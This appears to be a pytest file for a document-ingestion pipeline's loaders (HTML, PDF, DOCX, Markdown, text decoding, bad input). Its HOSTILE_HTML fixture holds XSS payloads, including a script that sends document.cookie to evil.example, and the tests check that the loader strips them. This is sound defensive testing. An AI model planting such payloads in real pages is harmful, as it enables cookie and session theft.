"""Loaders for every format, on files the tests write; bad input is a one-line LoadError.

The `make_*` helpers are shared with tests/integration/test_ingest.py.
"""

from __future__ import annotations

import io
import logging
import random
import re
from pathlib import Path

import pytest

from ingest.chunking import chunk_document, chunk_sentences
from ingest.cleaning import boilerplate_blocks
from ingest.loaders import LoadError, decode_text, load_document, title_from_filename
from ingest.pipeline import collect_files, doc_id_for
from ingest.structure import LoadedDocument

PDF_FINDING = "The kitchen had no working fridge thermometer for three weeks in February."
PDF_ACTION = "The provider must replace the thermometer and record fridge checks every day."
DOCX_FINDING = "Controlled drugs were audited weekly by two pharmacists working together."
HOSTILE_HTML = """<!doctype html>
<html><head><title>Hillside hostile review</title>
<style>p { color: red } .stolen { content: "STYLE-BODY" }</style>
<script>window.__pwned=1; document.write("SCRIPT-BODY")</script>
</head><body>
<nav><a href="/">Home</a> | <a href="/about">About us</a></nav>
<h1>Hillside hostile review</h1>
<p>We inspected the home in March <img src="x" onerror="window.__pwned=2">and spoke with twelve residents.</p>
<h2>Findings</h2>
<ul>
  <li>Staff were kind and knew residents&#39; preferences well.</li>
  <li>Fees rose by &pound;40 a week; see <a href="javascript:alert('pwned')">the fee letter</a>.</li>
</ul>
<h3>Food</h3>
<div><p>Meals were hot and residents chose from <b>three</b> options.</p></div>
<script type="text/javascript">fetch("https://evil.example/steal?c=" + document.cookie)</script>
<noscript>NOSCRIPT-BODY</noscript>
<iframe src="javascript:alert(3)">IFRAME-BODY</iframe>
<footer>Copyright footer text</footer>
</body></html>
"""
HOSTILE_MARKERS = ("__pwned", "onerror", "javascript", "alert", "SCRIPT-BODY", "STYLE-BODY", "evil.example")


def make_pdf(*, title: str | None = None) -> bytes:
    """Three pages, set like a report (bold, larger headings): background on page 1, the finding on
    page 2, the action on page 3."""
    from fpdf import FPDF

    pdf = FPDF()
    if title:
        pdf.set_title(title)

    def line(text: str, size: int = 11, style: str = "") -> None:
        pdf.set_font("Helvetica", style=style, size=size)
        pdf.multi_cell(0, 8, text, new_x="LMARGIN", new_y="NEXT")

    def heading(text: str) -> None:
        line(text, 14, "B")

    pdf.add_page()
    line("Quarterly review of Hillside Care Home", 20, "B")
    heading("Background")
    line("We visited the home over two days in March and spoke with residents, relatives and staff. " * 3)
    pdf.add_page()
    heading("Findings")
    line(PDF_FINDING)
    pdf.add_page()
    heading("Actions")
    line(PDF_ACTION)
    return bytes(pdf.output())


def make_docx(*, core_title: str | None = None) -> bytes:
    import docx

    document = docx.Document()
    if core_title:
        document.core_properties.title = core_title
    document.add_heading("Inspection of Riverside Trust", 0)  # the 'Title' style
    document.add_paragraph("This report sets out what we found when we inspected the trust in spring.")
    document.add_heading("Safe care", 1)
    document.add_paragraph("Staff told us that handovers were thorough and well documented across all wards.")
    document.add_heading("Medicines", 2)
    document.add_paragraph("Medicines were stored securely and fridge temperatures were checked.", style="List Bullet")
    document.add_paragraph(DOCX_FINDING, style="List Bullet")
    table = document.add_table(rows=2, cols=2)
    for row, (ward, rating) in enumerate([("Ward", "Rating"), ("Ash ward", "Good")]):
        table.cell(row, 0).text, table.cell(row, 1).text = ward, rating
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


MARKDOWN = """# Annual review of Oak Lodge

Oak Lodge is a nursing home for forty older people, reviewed in June.

## Findings

### Staffing

- Night shifts were short of one nurse on eleven occasions in May.
- Agency staff were given a full induction before their first shift.

## Next steps

We will return within six months to check the staffing plan.
"""


def chunks_of(document: LoadedDocument):
    return chunk_document(document, boilerplate_blocks(document.text, document.blocks))


def block_texts(document: LoadedDocument, kind: str) -> list[str]:
    return [document.text[block.start : block.end] for block in document.blocks if block.kind == kind]


# --- plain text and Markdown -----------------------------------------------------------------


def test_plain_text_is_verbatim_with_title_from_first_line() -> None:
    data = b"Quality review of Elm House\n\nStaff were kind.\n\n- Meals were hot.\n"
    document = load_document(Path("elm.txt"), data)
    assert document.text == data.decode()
    assert document.title == "Quality review of Elm House"
    assert document.blocks[0].kind == "heading" and document.blocks[0].level == 1
    assert block_texts(document, "bullet") == ["- Meals were hot."]
    assert document.page_starts == ()


def test_plain_text_title_falls_back_to_file_name() -> None:
    document = load_document(Path("cqc-elm-house_review.txt"), b"Staff were kind to every resident we met.\n")
    assert document.title == "CQC elm house review"


def test_crlf_is_normalised() -> None:
    document = load_document(Path("a.txt"), b"Heading line\r\n\r\nA finding.\r\n")
    assert document.text == "Heading line\n\nA finding.\n"


def test_markdown_keeps_heading_levels_and_section_paths() -> None:
    document = load_document(Path("oak.md"), MARKDOWN.encode())
    assert document.text == MARKDOWN
    assert document.title == "Annual review of Oak Lodge"
    headings = [
        (block.level, document.text[block.start : block.end]) for block in document.blocks if block.kind == "heading"
    ]
    assert headings == [(1, "Annual review of Oak Lodge"), (2, "Findings"), (3, "Staffing"), (2, "Next steps")]
    assert len(block_texts(document, "bullet")) == 2
    sections = {chunk.section for chunk in chunks_of(document) if "Night shifts" in chunk.text}
    assert sections == {"Findings > Staffing"}
    after = next(chunk for chunk in chunks_of(document) if "We will return" in chunk.text)
    assert after.section == "Next steps"


# --- HTML -----------------------------------------------------------------------------------


def test_html_blocks_and_title() -> None:
    document = load_document(Path("hostile.html"), HOSTILE_HTML.encode())
    assert document.title == "Hillside hostile review"
    headings = [
        (block.level, document.text[block.start : block.end]) for block in document.blocks if block.kind == "heading"
    ]
    assert headings == [(1, "Hillside hostile review"), (2, "Findings"), (3, "Food")]
    bullets = block_texts(document, "bullet")
    assert bullets[0] == "Staff were kind and knew residents' preferences well."
    # the text shows each item as one; the item's block, and so any quote of it, starts after the marker
    assert "\n\n• Staff were kind" in document.text
    sentences = [
        document.text[start:end] for chunk in chunks_of(document) for start, end in chunk_sentences(document, chunk)
    ]
    assert "Staff were kind and knew residents' preferences well." in sentences
    assert bullets[1].startswith("Fees rose by £40 a week; see the fee letter")
    assert "Meals were hot and residents chose from three options." in block_texts(document, "paragraph")
    assert document.text.count("Meals were hot") == 1  # nested blocks are not read twice
    for chunk in chunks_of(document):
        assert chunk.text == document.text[chunk.start : chunk.end]
    food = next(chunk for chunk in chunks_of(document) if "Meals were hot" in chunk.text)
    assert food.section == "Findings > Food"


@pytest.mark.parametrize("marker", [*HOSTILE_MARKERS, "NOSCRIPT-BODY", "IFRAME-BODY", "Copyright footer", "About us"])
def test_hostile_html_leaves_no_trace(marker: str) -> None:
    document = load_document(Path("hostile.html"), HOSTILE_HTML.encode())
    assert marker not in document.text


def test_html_without_block_elements_falls_back_to_lines() -> None:
    data = b"<html><body>First line of text<br>Second line of text<script>x=1</script></body></html>"
    document = load_document(Path("bare.htm"), data)
    assert block_texts(document, "paragraph") == ["First line of text", "Second line of text"]
    assert "x=1" not in document.text


# --- PDF ------------------------------------------------------------------------------------


def test_pdf_pages_are_kept() -> None:
    document = load_document(Path("hillside.pdf"), make_pdf())
    assert len(document.page_starts) == 3
    assert document.title == "Quarterly review of Hillside Care Home"
    finding = document.text.index(PDF_FINDING)
    assert document.page_at(finding) == 2
    assert document.page_at(document.text.index(PDF_ACTION)) == 3
    assert document.page_at(document.text.index("We visited the home")) == 1
    chunks = chunks_of(document)
    pages = {phrase: next(c.page for c in chunks if phrase in c.text) for phrase in (PDF_FINDING, PDF_ACTION)}
    assert pages == {PDF_FINDING: 2, PDF_ACTION: 3}
    for chunk in chunks:
        assert chunk.text == document.text[chunk.start : chunk.end]
        assert chunk.page == document.page_at(chunk.start)


def test_pdf_sections_come_from_headings_not_wrapped_lines() -> None:
    document = load_document(Path("hillside.pdf"), make_pdf())
    chunks = chunks_of(document)
    assert {chunk.section for chunk in chunks} == {"Background", "Findings", "Actions"}


def test_pdf_metadata_title_wins() -> None:
    assert load_document(Path("h.pdf"), make_pdf(title="Hillside 2024")).title == "Hillside 2024"


# --- DOCX -----------------------------------------------------------------------------------


def test_docx_styles_become_blocks_and_sections() -> None:
    document = load_document(Path("riverside.docx"), make_docx())
    assert document.title == "Inspection of Riverside Trust"
    headings = [
        (block.level, document.text[block.start : block.end]) for block in document.blocks if block.kind == "heading"
    ]
    assert headings == [(1, "Inspection of Riverside Trust"), (2, "Safe care"), (3, "Medicines")]
    assert block_texts(document, "bullet") == [
        "Medicines were stored securely and fridge temperatures were checked.",
        DOCX_FINDING,
    ]
    assert "Ward | Rating" in block_texts(document, "paragraph")
    chunk = next(chunk for chunk in chunks_of(document) if DOCX_FINDING in chunk.text)
    assert chunk.section == "Safe care > Medicines"
    handover = next(chunk for chunk in chunks_of(document) if "handovers" in chunk.text)
    assert handover.section == "Safe care"


def test_docx_table_cell_paragraphs_stay_apart() -> None:
    """A cell's list ("Financial year", "Age-group and gender") would otherwise read as one run of words."""
    import docx

    document = docx.Document()
    table = document.add_table(rows=1, cols=2)
    cell = table.cell(0, 0)
    cell.text = "Attendance rates in each setting by:"
    for item in ("Financial year", "Age-group and gender"):
        cell.add_paragraph(item)
    cell.paragraphs[-1].add_run().add_break()  # a line break inside a paragraph parts items too
    cell.paragraphs[-1].add_run("Ethnic group")
    table.cell(0, 1).text = "£12k"
    buffer = io.BytesIO()
    document.save(buffer)
    loaded = load_document(Path("proposal.docx"), buffer.getvalue())
    cell_list = "Attendance rates in each setting by: Financial year; Age-group and gender; Ethnic group"
    assert loaded.text == f"{cell_list} | £12k"


def test_docx_cell_merged_down_is_read_once_unless_it_is_a_short_label() -> None:
    """A triage log's long question spans the rows of its options: repeated in each, the rows were near-copies."""
    import docx

    question = "Which type of linkage algorithm are you using? If you are not sure, carry out the preparation phase."
    options = [("Simple join", "Deterministic match on NHS number"), ("Ad-hoc models", "Fellegi Sunter algorithm")]
    document = docx.Document()
    table = document.add_table(rows=2, cols=4)
    table.cell(0, 0).merge(table.cell(1, 0)).text = "Linkage algorithm"
    table.cell(0, 1).merge(table.cell(1, 1)).text = question
    for row, (option, example) in enumerate(options):
        table.cell(row, 2).text, table.cell(row, 3).text = option, example
    buffer = io.BytesIO()
    document.save(buffer)
    loaded = load_document(Path("triage.docx"), buffer.getvalue())
    assert loaded.text == (
        f"Linkage algorithm | {question} | Simple join | Deterministic match on NHS number\n\n"
        "Linkage algorithm | Ad-hoc models | Fellegi Sunter algorithm"
    )


def test_docx_table_whose_merged_cells_disagree_with_its_grid_still_reads() -> None:
    """python-docx raises `no tc element at grid_offset` on such a row; Word opens the file."""
    import docx
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn

    document = docx.Document()
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text, table.cell(1, 0).text, table.cell(1, 1).text = "Ward ratings", "Ash ward", "Good"
    first_row = table.rows[0]._tr
    span = OxmlElement("w:gridSpan")
    span.set(qn("w:val"), "2")
    first_row.tc_lst[0].get_or_add_tcPr().append(span)  # the first row's cell spans both columns ...
    first_row.remove(first_row.tc_lst[1])
    table.rows[1]._tr.tc_lst[1].get_or_add_tcPr().append(OxmlElement("w:vMerge"))  # ... yet is continued below
    buffer = io.BytesIO()
    document.save(buffer)
    assert load_document(Path("ratings.docx"), buffer.getvalue()).text == "Ward ratings\n\nAsh ward | Good"


def test_docx_tracked_changes_are_read_accepted() -> None:
    """Inserted and moved-in text is read, deleted and moved-out text is not (python-docx reads neither kind)."""
    import docx
    from docx.oxml import OxmlElement

    def tracked(kind: str, text: str) -> object:
        change, run, words = (
            OxmlElement(f"w:{kind}"),
            OxmlElement("w:r"),
            OxmlElement("w:delText" if kind == "del" else "w:t"),
        )
        words.text = text
        run.append(words)
        change.append(run)
        return change

    document = docx.Document()
    paragraph = document.add_paragraph("This is a text with ")
    for kind, text in (("ins", "two exciting "), ("del", "some "), ("moveFrom", "moved away "), ("moveTo", "moved ")):
        paragraph._p.append(tracked(kind, text))
    paragraph.add_run("insertions.")
    buffer = io.BytesIO()
    document.save(buffer)
    loaded = load_document(Path("tracked.docx"), buffer.getvalue())
    assert loaded.text == "This is a text with two exciting moved insertions."


def test_markdown_front_matter_names_the_page() -> None:
    front = "---\nauthors: [will]\ntitle: 'The RISE Tool: evaluating classifiers'\ndate: 2024-12-12\n---\n"
    text = front + "\n## Introduction\n\nText."
    assert load_document(Path("rise.md"), text.encode()).title == "The RISE Tool: evaluating classifiers"
    later = "# Notes\n\n---\ntitle: not front matter\n---\n"
    assert load_document(Path("notes.md"), later.encode()).title == "Notes"


def test_docx_core_title_wins() -> None:
    assert load_document(Path("r.docx"), make_docx(core_title="Riverside 2024")).title == "Riverside 2024"


# --- decoding -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ("Plain UTF-8 – café £5".encode(), "Plain UTF-8 – café £5"),
        (b"\xef\xbb\xbfWith a BOM", "With a BOM"),
        ("‘Smart quotes’ cost £12 – “really”".encode("cp1252"), "‘Smart quotes’ cost £12 – “really”"),
        ("Café naïve Zürich façade".encode("latin-1"), "Café naïve Zürich façade"),
        ("UTF-16 text with £".encode("utf-16"), "UTF-16 text with £"),
        ("UTF-16 without a byte-order mark".encode("utf-16-le"), "UTF-16 without a byte-order mark"),
        ("Big-endian, no mark, £5".encode("utf-16-be"), "Big-endian, no mark, £5"),
        ("UTF-32 with its mark, £5".encode("utf-32"), "UTF-32 with its mark, £5"),  # was read as UTF-16: refused
        (b"a\r\nb\rc", "a\nb\nc"),
        (b"tabs\tand\fform feeds", "tabs\tand\fform feeds"),
    ],
)
def test_decode_text(data: bytes, expected: str) -> None:
    assert decode_text(data) == expected


JAPANESE = (
    "調査の結果、病院の職員は有害事象を報告していなかったことが分かった。勧告は二週間以内に施設の責任者に伝えられた。"
)
LEGACY_CODE_PAGE_TEXTS = {
    "cp1250": "Kontrola wykazała, że personel szpitala nie zgłaszał zdarzeń niepożądanych. Zalecenia zostały "
    "przekazane dyrektorowi placówki w ciągu dwóch tygodni.",
    "cp1251": "Проверка показала, что персонал больницы не сообщал о нежелательных событиях. Рекомендации были "
    "переданы директору учреждения в течение двух недель.",
    "iso-8859-7": "Ο έλεγχος έδειξε ότι το προσωπικό του νοσοκομείου δεν ανέφερε ανεπιθύμητα συμβάντα. Οι συστάσεις "
    "διαβιβάστηκαν στον διευθυντή μέσα σε δύο εβδομάδες.",
    "euc-jp": JAPANESE,
    "shift_jis": JAPANESE,
    "cp1252": "Inspectors found the home’s fees – £25 a week – “unfair”; the café closed.",
}


@pytest.mark.parametrize("encoding", LEGACY_CODE_PAGE_TEXTS)
def test_legacy_code_pages_are_read_in_their_own_characters(encoding: str) -> None:
    """Not Windows-1252 mojibake ("Kontrola wykaza\xb3a"): Polish, Russian, Greek and Japanese files read."""
    text = LEGACY_CODE_PAGE_TEXTS[encoding]
    assert decode_text(text.encode(encoding)) == text


CENTRAL_EUROPEAN_PAGE = (
    '<html><head><meta charset="iso-8859-2"><title>Kontrola</title></head><body><p>Kontrola wykazała, że personel '
    "szpitala nie zgłaszał zdarzeń. Środki ostrożności były niewystarczające, a ściany brudne.</p></body></html>"
)


def test_a_page_is_read_in_the_code_page_it_declares() -> None:
    """ISO-8859-2 and Windows-1250 differ in a few letters ("Ś", "ś"); guessing cannot tell them apart."""
    data = CENTRAL_EUROPEAN_PAGE.encode("iso-8859-2")
    assert decode_text(data) == CENTRAL_EUROPEAN_PAGE
    assert decode_text(data.replace(b"iso-8859-2", b"unknown")) != CENTRAL_EUROPEAN_PAGE.replace(
        "iso-8859-2", "unknown"
    )
    for declared in ("utf-8", "rot13", "base64"):  # declared wrongly, or as a codec that is not a text encoding
        mislabelled = f'<meta charset="{declared}"><p>Fees of £25 – unfair</p>'
        assert decode_text(mislabelled.encode("cp1252")) == mislabelled


def test_short_western_text_stays_windows_1252() -> None:
    """One dash in a short English file reads as well in Central European code pages; Windows-1252 wins ties."""
    text = "Providers worked together during the pandemic – and shared staff across the area."
    assert decode_text(text.encode("cp1252")) == text


def test_cp1252_file_loads_with_its_characters() -> None:
    data = "Fees review\n\nResidents said the ‘top-up’ fee of £25 was unfair.\n".encode("cp1252")
    document = load_document(Path("fees.txt"), data)
    assert "‘top-up’ fee of £25" in document.text
    assert any("£25" in chunk.text for chunk in chunks_of(document))


@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
        b"text with a NUL \x00 in it",
        random.Random(7).randbytes(4000).replace(b"\0", b"\1"),  # like compressed data, without a NUL
        b"\xff\xfe\x00\xd8a\x00",  # a UTF-16 BOM followed by a lone surrogate
    ],
    ids=["png", "nul", "random-bytes", "bad-utf16"],
)
def test_binary_is_refused(data: bytes) -> None:
    with pytest.raises(LoadError, match="not a text file"):
        decode_text(data)


# --- bad input ------------------------------------------------------------------------------


def _corrupt_filter_pdf() -> bytes:
    return make_pdf().replace(b"/FlateDecode", b"/FlateDecodX")


def _blank_pdf() -> bytes:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.add_page()
    return bytes(pdf.output())


BAD_FILES = [
    ("empty.txt", b"", "file is empty"),
    ("spaces.txt", b"   \n\t\r\n   ", "file is empty"),
    ("random.pdf", random.Random(0).randbytes(4096), "not a readable PDF"),
    ("truncated.pdf", make_pdf()[:700], "not a readable PDF"),
    ("bad-filter.pdf", _corrupt_filter_pdf(), "no text layer (scanned PDF?)"),  # its text stream cannot be read
    ("blank.pdf", _blank_pdf(), "no text layer (scanned PDF?)"),
    ("image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + random.Random(1).randbytes(512), "not a text file"),
    ("random.md", random.Random(4).randbytes(2048).replace(b"\0", b"\1"), "not a text file"),
    ("nul.html", b"<p>hi</p>\x00\x00\x00", "not a text file"),
    ("bad-utf16.txt", b"\xff\xfe\x00\xd8a\x00", "not a text file"),
    ("random.docx", random.Random(2).randbytes(2048), "not a readable DOCX"),
    ("zip-ish.docx", b"PK\x03\x04" + random.Random(3).randbytes(512), "not a readable DOCX"),
    ("scripts-only.html", b"<html><script>var a = 1;</script><style>p{}</style></html>", "no text found"),
    ("notes.xyz", b"Some perfectly good text.", "unsupported file type '.xyz'"),
    ("Makefile", b"all:\n\techo hi\n", "unsupported file type 'Makefile'"),
]


@pytest.mark.parametrize(("name", "data", "message"), BAD_FILES, ids=[name for name, _, _ in BAD_FILES])
def test_bad_input_is_a_one_line_load_error(name: str, data: bytes, message: str) -> None:
    with pytest.raises(LoadError) as raised:
        load_document(Path(name), data)
    text = str(raised.value)
    assert message in text
    assert "\n" not in text and 0 < len(text) <= 200


def test_bad_pdf_logs_nothing(caplog: pytest.LogCaptureFixture) -> None:
    """pypdf's own warnings ('EOF marker not found') would reach stderr beside the one-line error."""
    with caplog.at_level(logging.DEBUG), pytest.raises(LoadError):
        load_document(Path("random.pdf"), random.Random(0).randbytes(4096))
    assert [record.getMessage() for record in caplog.records if record.levelno >= logging.WARNING] == []


# --- names ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("cqc-state-of-care.txt", "CQC state of care"),
        ("my_review.txt", "My review"),
        ("nhs-111-report.pdf", "NHS 111 report"),
        ("2021-report.md", "2021 report"),
        ("state-of-care-2019-20.txt", "State of care 2019-20"),
        ("---.txt", "---.txt"),
    ],
)
def test_title_from_filename(name: str, title: str) -> None:
    assert title_from_filename(Path(name)) == title


@pytest.mark.parametrize(
    ("name", "doc_id"),
    [
        ("cqc-collaborating-for-better-care.txt", "cqc-collaborating-for-better-care"),
        ("CQC Report (v2).PDF", "cqc-report-v2"),
        ("review with spaces.docx", "review-with-spaces"),
        ("Überprüfung – café.txt", r"uberprufung-cafe-[0-9a-f]{8}"),
        ("!!!.txt", r"doc-[0-9a-f]{8}"),
        ("x" * 196 + ".txt", r"x{70}-[0-9a-f]{8}"),
    ],
)
def test_doc_id_for(name: str, doc_id: str) -> None:
    assert re.fullmatch(doc_id, doc_id_for(name))


def test_doc_ids_keep_accented_names_apart() -> None:
    assert doc_id_for("café.txt") != doc_id_for("cafe.txt")
    assert doc_id_for("café.txt") == doc_id_for("café.md")  # the suffix is not part of the identity


def test_collect_files(tmp_path: Path) -> None:
    (tmp_path / "sub" / ".hidden").mkdir(parents=True)
    for name in ["a.txt", "sub/b.md", "sub/c.PDF", "README.md", "sub/.hidden/d.txt", ".e.txt", "f.xyz", "g.docx"]:
        (tmp_path / name).write_text("x")
    explicit = tmp_path / "f.xyz"
    files, missing = collect_files([tmp_path, explicit, tmp_path / "nope.txt"])
    assert sorted(path.relative_to(tmp_path).as_posix() for path in files) == sorted(
        ["a.txt", "sub/b.md", "sub/c.PDF", "g.docx", "f.xyz"]
    )
    assert missing == [{"path": str(tmp_path / "nope.txt"), "error": "no such file or folder"}]
    again, _ = collect_files([tmp_path, tmp_path / "a.txt"])
    assert len(again) == len(set(again))  # a file named twice is ingested once


# --- real files (../shared/realdocs) -------------------------------------------------------

REALDOCS = Path(__file__).resolve().parents[3] / "shared" / "realdocs"
needs_realdocs = pytest.mark.skipif(not REALDOCS.is_dir(), reason="../shared/realdocs not beside the checkout")


@needs_realdocs
def test_real_docx_converted_from_pdf_reads_as_paragraphs() -> None:
    """One Word paragraph per printed line (a PDF saved as DOCX): wraps joined, ligatures unfolded."""
    document = load_document(Path("sample_docx_1.docx"), (REALDOCS / "sample_docx_1.docx").read_bytes())
    assert document.title == "A sample PDF file"
    assert "ﬁ" not in document.text and "ﬂ" not in document.text
    blocks = {document.text[block.start : block.end]: block.kind for block in document.blocks}
    assert blocks["History and standardization"] == "heading"
    paragraph = next(text for text, kind in blocks.items() if text.startswith("Format (PDF)"))
    assert "available free of charge in 1993." in paragraph
    assert "publishing workflows, and competed with a variety of formats such as DjVu, Envoy" in paragraph


@needs_realdocs
def test_real_docx_page_breaks_do_not_split_paragraphs() -> None:
    document = load_document(Path("breaks.docx"), (REALDOCS / "sample_docx_2_page_breaks.docx").read_bytes())
    assert document.title == "Breaks"  # no styled title: the file name, not a short line of text
    long_paragraph = next(
        block for block in document.blocks if "contains 2 (!) page breaks" in document.text[block.start : block.end]
    )
    assert long_paragraph.kind == "paragraph" and "\n" not in document.text[long_paragraph.start : long_paragraph.end]


@needs_realdocs
@pytest.mark.parametrize("name", ["what_is_haystack.html", "paul_graham_superlinear.html"])
def test_real_web_page_saved_as_txt_is_read_as_html(name: str) -> None:
    data = (REALDOCS / name).read_bytes()
    as_html = load_document(Path(name), data)
    as_txt = load_document(Path(name).with_suffix(".txt"), data)
    assert as_txt.text == as_html.text and as_txt.blocks == as_html.blocks
    assert "<div" not in as_txt.text and "</p>" not in as_txt.text


@needs_realdocs
def test_real_scanned_pdf_is_refused_with_a_clear_reason() -> None:
    with pytest.raises(LoadError, match=r"^no text layer \(scanned PDF\?\)$"):
        load_document(Path("scan.pdf"), (REALDOCS / "non_text_searchable.pdf").read_bytes())


def test_half_a_utf16_pair_never_reaches_the_encoder(monkeypatch: pytest.MonkeyPatch) -> None:
    """The tokenizer refuses a lone surrogate, and with it the whole batch of files being embedded."""
    from ingest import loaders
    from ingest.structure import Block, LoadedDocument

    broken = LoadedDocument("x = \ud835 y.", "Title \udc47", (Block("paragraph", 0, 12),))
    monkeypatch.setitem(loaders._READERS, ".txt", lambda path, data: broken)
    document = load_document(Path("formula.txt"), b"x")
    assert document.text == "x = \ufffd y." and document.title == "Title \ufffd"
    assert document.blocks == broken.blocks
